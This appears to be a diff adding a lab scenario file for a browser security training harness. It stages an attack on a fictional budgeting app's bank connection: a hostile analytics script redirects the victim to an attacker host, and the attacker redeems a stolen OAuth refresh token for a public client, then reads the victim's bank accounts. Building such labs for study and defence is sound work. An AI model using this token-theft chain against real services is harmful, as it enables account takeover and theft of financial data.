@@ -1,0 +1,37 @@
+"""One hostile line of script looks into the drawers, after everybody has left."""
+
+from labs.chromium import BrowserStage
+from labs.stage import Stage, Stuck
+from labs.steps import step
+
+LINK = "/?campaign=spring"
+
+
+@step("Alice", by_hand="{balance}/")
+def alice_connects(stage: BrowserStage) -> None:
+    """Connect Balance to the bank: sign in as alice, and allow. Then close the tab: Alice is done."""
+    stage.alice.go(f"{stage.here.balance}/").click("Connect your bank").agree().rest()
+
+
+@step("Alice", by_hand=f"{{balance}}{LINK}")
+def alice_comes_back(stage: BrowserStage) -> None:
+    """Come back another day, by the link of a newsletter."""
+    page = stage.alice.tab.goto(f"{stage.here.balance}{LINK}", wait_until="commit")
+    if "/js/analytics.js" in page.text():
+        stage.alice.tab.wait_for_url(f"{stage.here.attacker}/**")
+
+
+@step("attacker")
+def refreshes(stage: Stage) -> None:
+    """Trade the refresh token that came for an access token: this client has no secret to prove."""
+    found = stage.collection.newest("refresh_token")
+    if not found:
+        raise Stuck("the script found no token")
+    form = {"grant_type": "refresh_token", "client_id": "balance", "refresh_token": found}
+    stage.kept["token"] = stage.attacker.token(**form)
+
+
+@step("attacker")
+def reads_the_accounts(stage: Stage) -> None:
+    """Ask the bank for Alice's accounts with what that bought."""
+    stage.attacker.bank("GET", "/accounts", stage.kept["token"])
